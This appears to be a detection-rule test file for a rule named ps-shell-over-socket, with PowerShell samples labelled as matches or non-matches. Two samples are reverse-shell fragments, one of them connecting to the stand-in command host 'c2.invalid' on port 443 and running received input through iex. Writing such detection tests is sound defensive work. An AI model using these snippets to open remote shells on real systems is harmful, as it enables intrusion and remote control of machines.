# ruleid: ps-shell-over-socket
$c = New-Object Net.Sockets.TCPClient('c2.invalid',443);$s = $c.GetStream();iex $d
# ruleid: ps-shell-over-socket
$c = New-Object System.Net.Sockets.TcpClient($h, $p)
$s = $c.GetStream()
$o = (iex $line 2>&1 | Out-String)
# ok: ps-shell-over-socket
$c = New-Object Net.Sockets.TcpClient; $c.Connect('localhost', 80); $c.Close()
